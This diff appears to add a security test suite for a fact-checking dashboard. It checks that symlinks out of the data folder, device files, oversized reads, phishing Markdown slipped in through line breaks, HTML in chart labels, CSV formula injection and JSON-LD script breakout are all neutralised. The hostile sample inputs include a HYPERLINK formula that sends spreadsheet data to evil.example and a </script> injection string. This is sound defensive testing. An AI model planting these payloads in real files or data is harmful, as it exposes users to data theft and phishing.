@@ -153,3 +153,456 @@ def test_links_built_from_data_cannot_carry_script_or_break_out():
 
     assert link("click", "javascript:alert(1)") == "click"
     assert link("[x](y)", "https://example.org/a b)(c") == "[\\[x\\]\\(y\\)](https://example.org/a%20b%29%28c)"
+
+
+# =====================================================================================
+# The hostile corpus of issue 15: each class of fault, on a copy of the real data folder,
+# with the example from the issue and a variant in another file or field.
+# =====================================================================================
+import csv  # noqa: E402
+import io  # noqa: E402
+import json  # noqa: E402
+import re  # noqa: E402
+import shutil  # noqa: E402
+import zipfile  # noqa: E402
+from pathlib import Path  # noqa: E402
+
+import yaml  # noqa: E402
+
+from claimcheck import charts as C  # noqa: E402
+from claimcheck import domain as D  # noqa: E402
+from claimcheck import load as LOAD  # noqa: E402
+from claimcheck.claimreview import claim_reviews_json  # noqa: E402
+from claimcheck.dictionary import data_dictionary  # noqa: E402
+from claimcheck.export import csv_bytes, dataset_zip  # noqa: E402
+from claimcheck.safetext import LINE_BREAK as LINE_BREAK_RE  # noqa: E402
+
+from .conftest import REAL  # noqa: E402
+
+PAGES = [None, "pages/1_Claims.py", "pages/2_Evidence.py", "pages/3_Articles.py", "pages/4_Adverse_effects.py",
+         "pages/5_Legality.py", "pages/6_Classroom.py", "pages/7_Methods_and_data.py"]  # fmt: skip
+SECRET = "TOP-SECRET-OUTSIDE-THE-DATA-FOLDER-3f9a"
+
+
+@pytest.fixture
+def real(tmp_path: Path) -> Path:
+    """A fresh copy of the real data folder, to break."""
+    dest = tmp_path / "data"
+    shutil.copytree(REAL, dest)
+    return dest
+
+
+@pytest.fixture
+def secret(tmp_path: Path) -> Path:
+    """A file outside the data folder that must never be read, shown or shared."""
+    path = tmp_path / "outside" / "secret.txt"
+    path.parent.mkdir()
+    path.write_text(f"{SECRET}\nroot:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
+    return path
+
+
+def problems(directory: Path) -> list[str]:
+    return [str(p) for p in validate(directory).problems]
+
+
+def yq(text: str) -> str:
+    """``text`` as a YAML double-quoted scalar: control and line-break characters escaped, the rest as is."""
+
+    def one_char(ch: str) -> str:
+        if ch in '"\\':
+            return "\\" + ch
+        if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in "\u2028\u2029":
+            return f"\\u{ord(ch):04x}"
+        return ch
+
+    return '"' + "".join(one_char(ch) for ch in text) + '"'
+
+
+def one(found: list[str], *fragments: str) -> str:
+    """The one problem line holding every fragment (fails listing them all otherwise)."""
+    hits = [p for p in found if all(f in p for f in fragments)]
+    assert hits, f"no problem with {fragments}; found:\n" + "\n".join(found[:40])
+    return hits[0]
+
+
+def records(path: Path) -> list[dict]:
+    return yaml.safe_load(path.read_text(encoding="utf-8"))
+
+
+def csv_rows(path: Path) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+
+
+def csv_set(path: Path, key: str, value: str, column: str, new: str) -> None:
+    """Set one cell of a CSV file (the row whose ``key`` column is ``value``), written back as CSV."""
+    rows = csv_rows(path)
+    header = list(rows[0])
+    hits = [r for r in rows if r[key] == value]
+    assert hits, f"{value!r} not in {path.name}"
+    hits[0][column] = new
+    out = io.StringIO()
+    w = csv.DictWriter(out, header, lineterminator="\n")
+    w.writeheader()
+    w.writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8")
+
+
+def yaml_set(path: Path, record_id: str, field: str, raw: str) -> None:
+    """Replace the one-line ``field:`` of the YAML record ``record_id`` with ``field: raw`` (raw YAML)."""
+    lines = path.read_text(encoding="utf-8").split("\n")
+    start = next(i for i, line in enumerate(lines) if re.fullmatch(rf"- id: ['\"]?{re.escape(record_id)}['\"]?", line))
+    end = next((i for i in range(start + 1, len(lines)) if lines[i].startswith("- ")), len(lines))
+    for i in range(start, end):
+        if re.match(rf"(- |  ){field}:", lines[i]):
+            assert not re.search(r":\s*[>|][-+]?\s*$", lines[i]), f"{field} of {record_id} spans several lines"
+            lines[i] = lines[i][: lines[i].index(field)] + f"{field}: {raw}"
+            path.write_text("\n".join(lines), encoding="utf-8")
+            return
+    raise AssertionError(f"{record_id} has no one-line {field}")
+
+
+def yaml_add(path: Path, record_id: str, line: str) -> None:
+    """Add a raw line (``  key: value``) just after the ``- id:`` line of a record."""
+    text = path.read_text(encoding="utf-8")
+    head = re.search(rf"^- id: ['\"]?{re.escape(record_id)}['\"]?\n", text, re.M)
+    assert head, record_id
+    path.write_text(text[: head.end()] + line + "\n" + text[head.end() :], encoding="utf-8")
+
+
+def run_page(directory: Path, monkeypatch, page: str | None, query: dict | None = None) -> AppTest:
+    monkeypatch.setenv("CLAIMCHECK_DATA_DIR", str(directory))
+    at = AppTest.from_file("../dashboard.py", default_timeout=90)
+    for k, v in (query or {}).items():
+        at.query_params[k] = v
+    at.run()
+    if page:
+        at.switch_page(page).run()
+    assert not at.exception, [e.value for e in at.exception]
+    return at
+
+
+def page_text(at: AppTest) -> str:
+    """Every text element's value on the page (markdown, captions, code, text, alerts, tables)."""
+    parts = [str(e.value) for kind in ("markdown", "caption", "code", "text", "error", "warning", "info", "title", "header", "subheader")
+             for e in getattr(at, kind)]  # fmt: skip
+    parts += [df.value.to_csv() for df in at.dataframe]
+    return "\n".join(parts)
+
+
+def banner(at: AppTest) -> str:
+    msgs = [e.value for e in at.error if "The data folder has" in e.value]
+    assert len(msgs) == 1, [e.value for e in at.error]
+    return msgs[0]
+
+
+def first_article(directory: Path) -> dict:
+    return records(directory / "articles.yaml")[0]
+
+
+# --- 1. links out of the data folder ----------------------------------------------------
+def test_links_out_of_the_data_folder_are_never_read_shown_or_zipped(real, secret):
+    art = first_article(real)
+    (real / "articles" / "leak.txt").symlink_to(secret)  # a link no record refers to
+    (real / "articles" / art["file"]).unlink()
+    (real / "articles" / art["file"]).symlink_to(secret)  # an article record pointing at a link out
+    (real / "CHANGELOG.md").unlink()
+    (real / "CHANGELOG.md").symlink_to(secret)  # variant: a documentation file
+    (real / "glossary.csv").unlink()
+    (real / "glossary.csv").symlink_to(secret)  # variant: a table file
+    found = problems(real)
+    one(found, "articles/leak.txt", "link that leads outside the data folder")
+    one(found, "CHANGELOG.md", "link that leads outside the data folder")
+    one(found, "glossary.csv", "link that leads outside the data folder")
+    one(found, "articles.yaml", art["id"], "file", "link that leads outside the data folder")
+    ds = load_dataset(real)
+    assert all(SECRET not in t for t in ds.article_texts.values())
+    assert art["id"] not in set(ds["articles"]["id"])
+    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
+    assert all(SECRET.encode() not in zipped.read(n) for n in zipped.namelist())
+    assert "data/articles/leak.txt" not in zipped.namelist() and "data/glossary.csv" not in zipped.namelist()
+    assert "data/claims.yaml" in zipped.namelist(), "the regular files are still in the zip"
+
+
+def test_a_link_inside_the_data_folder_is_still_read(real):
+    art = first_article(real)
+    text = (real / "articles" / art["file"]).read_text(encoding="utf-8")
+    (real / "articles" / art["file"]).rename(real / "articles" / "moved.txt")
+    (real / "articles" / art["file"]).symlink_to("moved.txt")
+    assert problems(real) == []
+    assert load_dataset(real).article_texts[art["id"]] == text
+
+
+@pytest.mark.parametrize("page", ["pages/3_Articles.py", "pages/7_Methods_and_data.py"])
+def test_pages_never_show_a_file_from_outside(real, secret, monkeypatch, page):
+    art = first_article(real)
+    (real / "articles" / art["file"]).unlink()
+    (real / "articles" / art["file"]).symlink_to(secret)
+    (real / "CHANGELOG.md").unlink()
+    (real / "CHANGELOG.md").symlink_to(secret)
+    at = run_page(real, monkeypatch, page, {"doc": art["id"]})
+    assert SECRET not in page_text(at)
+    assert "leads outside the data folder" in "\n".join(e.value for e in at.code)
+
+
+# --- 2. devices, pipes and huge files ------------------------------------------------------
+def test_devices_are_refused_before_a_byte_is_read():
+    with pytest.raises(LOAD.Unreadable, match="is a device"):
+        LOAD.read_bytes(Path("/dev"), "zero")
+
+
+def test_a_link_to_a_device_and_a_pipe_in_the_folder_never_hang_or_fill_memory(real):
+    art = first_article(real)
+    (real / "articles" / art["file"]).unlink()
+    (real / "articles" / art["file"]).symlink_to("/dev/zero")
+    (real / "topics.csv").unlink()
+    os.mkfifo(real / "topics.csv")  # variant: a pipe a reader would wait on forever
+    (real / "articles" / "zero.txt").symlink_to("/dev/zero")
+    start = time.perf_counter()
+    found = problems(real)
+    LOAD.fingerprint(real)
+    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
+    assert time.perf_counter() - start < 30
+    one(found, "articles.yaml", art["id"], "leads outside the data folder")
+    one(found, "topics.csv", "is a pipe (FIFO)")
+    assert "data/articles/zero.txt" not in zipped.namelist() and "data/topics.csv" not in zipped.namelist()
+
+
+def test_reads_are_capped_on_the_open_file_whatever_its_size_says(real, monkeypatch):
+    # A sparse file reports its size honestly; a growing file or a /proc file would not:
+    # whatever the size, no more than limit + 1 bytes are read.
+    with open(real / "harms.yaml", "r+b") as f:
+        f.truncate(50 * 1024 * 1024)  # variant: a YAML table
+    calls = []
+    real_read = os.read
+    monkeypatch.setattr(os, "read", lambda fd, n: calls.append(n) or real_read(fd, n))
+    with pytest.raises(LOAD.Unreadable, match="over the 1,000-byte limit"):
+        LOAD.read_bytes(real, "claims.yaml", limit=1000)
+    assert calls == [], "a file whose size is over the limit is refused before reading"
+    os_stat = os.fstat
+
+    class Lying:  # a file that claims to be small
+        def __init__(self, st):
+            self.st = st
+
+        def __getattr__(self, name):
+            return 10 if name == "st_size" else getattr(self.st, name)
+
+    monkeypatch.setattr(os, "fstat", lambda fd: Lying(os_stat(fd)))
+    with pytest.raises(LOAD.Unreadable, match="over the 1,000-byte limit"):
+        LOAD.read_bytes(real, "harms.yaml", limit=1000)
+    assert sum(calls) <= 1001
+    monkeypatch.undo()
+    monkeypatch.setattr(LOAD, "MAX_FILE_BYTES", 1000)
+    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
+    assert "data/harms.yaml" not in zipped.namelist() and "data/claims.yaml" not in zipped.namelist(), "the zip keeps to the limit"
+    assert "data/conditions.csv" in zipped.namelist(), "a file under the limit is still shared"
+
+
+# --- 3. the dataset's icon -------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "icon,accepted",
+    [("/etc/passwd", False), ("https://tracker.example/pixel.png", False), ("../static/x.svg", False), ("icon", False),
+     ("🌿", True), (":material/eco:", True), (":material/../x:", False)],
+)  # fmt: skip
+def test_the_icon_is_only_an_emoji_or_a_material_icon(real, icon, accepted):
+    text = (real / "dataset.yaml").read_text(encoding="utf-8")
+    (real / "dataset.yaml").write_text(re.sub(r"(?m)^icon: .*$", lambda m: f"icon: {yq(icon)}", text), encoding="utf-8")
+    found = problems(real)
+    if accepted:
+        assert found == []
+        assert load_dataset(real).meta["icon"] == icon
+    else:
+        one(found, "dataset.yaml", "icon", "not an emoji or a Material icon")
+        assert load_dataset(real).meta["icon"] == "🔎"
+
+
+def test_the_page_icon_handed_to_streamlit_is_never_a_path_or_url():
+    from ui.frame import page_icon
+
+    assert page_icon("/etc/hosts") == page_icon("https://x.example/a.png") == page_icon(":material/no_such_icon_xyz:") == "🔎"
+    assert page_icon("🌿") == "🌿" and page_icon(":material/eco:") == ":material/eco:"
+
+
+# --- 4. Markdown through a carriage return or another line break ----------------------------------
+PHISH = "[Claim your free sample](https://phish.example/login) ![x](https://phish.example/pixel.png)"
+
+
+@pytest.mark.parametrize("brk", ["\r\r", "\r\n\r\n", "\u2028\u2028", "\u2029", "\x0b\x0b", "\x0c\x0c", "\x85\x85", "\n\n"])
+def test_markdown_and_html_helpers_treat_every_line_break_as_one(brk):
+    from ui.frame import esc, md
+
+    out = md(f"Safe text{brk}{PHISH}")
+    assert not re.search(r"(?<!\\)[\[\]()<>!:]", out), "every character Markdown could act on is escaped"
+    assert set(LINE_BREAK_RE.findall(out)) <= {"\n"}, "every kind of break is one plain newline"
+    html_out = esc(f"Safe text{brk}{PHISH}")
+    assert not LINE_BREAK_RE.search(html_out), "a raw break would end Markdown's HTML block"
+    assert esc(f"a{brk}b", breaks="<br>").count("<br>") == len(LINE_BREAK_RE.findall(f"a{brk}b"))
+
+
+def test_an_article_with_carriage_returns_never_lets_markdown_out_of_its_html(real, monkeypatch):
+    art = first_article(real)
+    path = real / "articles" / art["file"]
+    path.write_text(path.read_text(encoding="utf-8") + f"\r\r{PHISH}\r\rThe end.", encoding="utf-8")
+    assert problems(real) == [], "carriage returns are line breaks in an article text, not a problem"
+    at = run_page(real, monkeypatch, "pages/3_Articles.py", {"doc": art["id"]})
+    body = [m.value for m in at.markdown if m.proto.allow_html and "phish.example" in m.value]
+    assert len(body) == 1
+    assert not LINE_BREAK_RE.search(body[0]), "every break became <br>, so the HTML block never ends"
+    assert "Claim your free sample" in body[0]
+
+
+@pytest.mark.parametrize(
+    "file,field", [("dataset.yaml", "subject"), ("dataset.yaml", "title"), ("harms.yaml", "name"), ("articles.yaml", "label")]
+)
+def test_a_one_line_field_with_a_carriage_return_is_a_problem(real, file, field):
+    rid = "" if file == "dataset.yaml" else records(real / file)[0]["id"]
+    raw = yq(f"Kratom\r\r{PHISH}")
+    if file == "dataset.yaml":
+        text = (real / file).read_text(encoding="utf-8")
+        (real / file).write_text(re.sub(rf"(?m)^{field}: .*$", lambda m: f"{field}: {raw}", text), encoding="utf-8")
+    else:
+        yaml_set(real / file, rid, field, raw)
+    one(problems(real), file, field, "expected one line of text", "U+000D")
+
+
+def test_a_line_separator_in_a_list_item_is_a_problem(real):
+    text = (real / "dataset.yaml").read_text(encoding="utf-8")
+    text = text.replace("limitations:\n", f"limitations:\n  - {yq('One' + chr(0x2028) + PHISH)}\n", 1)
+    (real / "dataset.yaml").write_text(text, encoding="utf-8")
+    one(problems(real), "dataset.yaml", "limitations", "line break")
+
+
+# --- 5. HTML in chart labels ---------------------------------------------------------------------
+POISON = '<a href="https://phish.example/x">Click</a> <span style="color:red">red</span> A<br>B & C https://phish.example/bare'
+ALLOWED_TAGS = re.compile(r"</?(br|b|i|extra)>")
+
+
+def poisoned_copy(real: Path) -> Path:
+    """Every kind of data text that reaches a chart, poisoned with markup plotly would render."""
+    for h in records(real / "harms.yaml")[:3]:
+        yaml_set(real / "harms.yaml", h["id"], "name", yq(f"{h['name']} {POISON}"))
+    for a in records(real / "articles.yaml"):
+        yaml_set(real / "articles.yaml", a["id"], "label", yq(f"{a['label']} {POISON}"))
+    for t in csv_rows(real / "topics.csv")[:3]:
+        csv_set(real / "topics.csv", "id", t["id"], "label", f"{t['label']} {POISON}")
+    for r in csv_rows(real / "legality.csv")[:5]:
+        csv_set(real / "legality.csv", "id", r["id"], "name", f"{r['name']} {POISON}")
+        csv_set(real / "legality.csv", "id", r["id"], "instrument", POISON)
+    for r in csv_rows(real / "harm_figures.csv")[:40]:
+        for col in ("denominator_label", "source_label", "period", "place"):
+            csv_set(real / "harm_figures.csv", "id", r["id"], col, f"{r[col]} {POISON}")
+    for r in csv_rows(real / "timeline.csv")[:5]:
+        csv_set(real / "timeline.csv", "id", r["id"], "event", POISON)
+    return real
+
+
+def live_markup(spec) -> list[str]:
+    """Strings in a figure that still hold a tag plotly would render, other than the chart's own <br>, <b>, <i>."""
+    out = []
+
+    def walk(x):
+        if isinstance(x, str):
+            if "<" in ALLOWED_TAGS.sub("", x):
+                out.append(x)
+        elif isinstance(x, dict):
+            for v in x.values():
+                walk(v)
+        elif isinstance(x, list):
+            for v in x:
+                walk(v)
+
+    walk(spec)
+    return out
+
+
+@pytest.mark.parametrize(
+    "page,query",
+    [(None, {}), ("pages/1_Claims.py", {"view": "chart"}), ("pages/2_Evidence.py", {}), ("pages/4_Adverse_effects.py", {}),
+     ("pages/4_Adverse_effects.py", {"view": "figures"}), ("pages/5_Legality.py", {}), ("pages/5_Legality.py", {"map": "us"}),
+     ("pages/5_Legality.py", {"map": "timeline"})],
+)  # fmt: skip
+def test_markup_in_the_data_is_never_live_in_a_chart(real, monkeypatch, page, query):
+    at = run_page(poisoned_copy(real), monkeypatch, page, query)
+    assert not problems(real)
+    specs = [json.loads(el.proto.spec) for el in at.get("plotly_chart")]
+    assert specs, "the page draws a chart"
+    assert [s for spec in specs for s in live_markup(spec)] == []
+
+
+def test_every_chart_builder_escapes_data_text(real):
+    ds = load_dataset(poisoned_copy(real))
+    claims = D.claims_table(ds)
+    status = D.status_as_of(ds["legality"], __import__("datetime").date(2026, 1, 1), "leaf")
+    figs = [
+        C.claims_by_article(D.claims_by_article(claims, ds["articles"])),
+        C.mentioned_vs_reported(D.harm_mentions(ds), ds["articles"]),
+        C.evidence_matrix(D.evidence_matrix(D.evidence_links(ds), ds["topics"])),
+        C.legal_map(status, "world", "t"),
+        C.legal_map(status, "us", "t", local=D.local_rules_by_state(status)),
+        C.timeline(D.timeline_events(ds["timeline"], dict(zip(ds["legality"]["code"], ds["legality"]["name"])))),
+        C.counts_by_year(D.yearly_counts(D.figures_table(ds))),
+    ]
+    figures = D.figures_table(ds)
+    for kind in figures["data_kind"].unique():
+        figs.append(C.kind_panels(figures[figures["data_kind"] == kind], kind))
+    for fig in figs:
+        assert live_markup(fig.to_plotly_json()) == []
+    text = json.dumps([f.to_plotly_json() for f in figs], default=str)
+    assert "&lt;a href" in text, "the markup is still there, shown as text"
+    table = C.figure_table(figs[1])
+    assert table.apply(lambda col: col.astype(str).str.contains('<a href="https://phish', regex=False)).any().any(), (
+        "the text alternative shows the text as written"
+    )
+
+
+# --- 6. formula injection in CSV downloads ----------------------------------------------------------
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+def test_csv_downloads_neutralise_cells_a_spreadsheet_would_run(real):
+    claim = records(real / "claims.yaml")[0]["id"]
+    text = (real / "claims.yaml").read_text(encoding="utf-8")
+    head = re.search(rf"^- id: {claim}\n  statement: .*?\n  claim_type", text, re.S | re.M)
+    text = text[: head.start()] + f"- id: {claim}\n  statement: {yq(FORMULA)}\n  claim_type" + text[head.end() :]
+    (real / "claims.yaml").write_text(text, encoding="utf-8")
+    leg = csv_rows(real / "legality.csv")[0]["id"]
+    csv_set(real / "legality.csv", "id", leg, "name", "@SUM(1+1)")  # variant: another table, another field
+    csv_set(real / "legality.csv", "id", leg, "instrument", "\tTab first")
+    fig = next(r for r in csv_rows(real / "harm_figures.csv") if r["unit"] == "percent_change" or r["unit"] == "count")
+    csv_set(real / "harm_figures.csv", "id", fig["id"], "unit", "percent_change")
+    csv_set(real / "harm_figures.csv", "id", fig["id"], "value", "-5")
+    csv_set(real / "harm_figures.csv", "id", fig["id"], "period", "-5")
+    assert problems(real) == []
+    ds = load_dataset(real)
+    claims_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["claims"]).decode())))
+    assert next(r for r in claims_csv if r["id"] == claim)["statement"] == "'" + FORMULA
+    shown = D.provenance_table(ds["legality"], __import__("datetime").date(2026, 12, 1))
+    legal_csv = csv_bytes(shown).decode()
+    assert "'@SUM(1+1)" in legal_csv and "\n@SUM" not in legal_csv and ",@SUM" not in legal_csv
+    figs_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["harm_figures"]).decode())))
+    row = next(r for r in figs_csv if r["id"] == fig["id"])
+    assert row["value"] == "-5.0", "a real number stays a number"
+    assert row["period"] == "'-5", "text that looks like a formula is neutralised"
+    legality_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["legality"]).decode())))
+    assert next(r for r in legality_csv if r["id"] == leg)["instrument"] == "'\tTab first"
+
+
+def test_the_data_dictionary_download_says_cells_are_neutralised():
+    from claimcheck.export import CSV_NOTE
+
+    assert "single quote" in CSV_NOTE and "=" in CSV_NOTE
+    assert data_dictionary()["Checks"].str.contains("single quote").any()
+
+
+# --- 7. JSON-LD ---------------------------------------------------------------------------------------
+def test_json_ld_cannot_close_its_script_element(real):
+    ds = load_dataset(real)
+    claims = D.claims_table(ds)
+    assessed = claims.dropna(subset=["verdict"]).index
+    claims.loc[assessed[0], "statement"] = "</script><script>alert(1)</script>"
+    claims.loc[assessed[1], "rationale"] = "<!-- and & -->"  # variant: another field
+    text = claim_reviews_json(claims, ds["articles"], "https://x.example", "p")
+    assert "<" not in text and ">" not in text
+    data = json.loads(text)
+    assert data[0]["claimReviewed"] == "</script><script>alert(1)</script>"
+    assert data[1]["reviewRating"]["ratingExplanation"] == "<!-- and & -->"
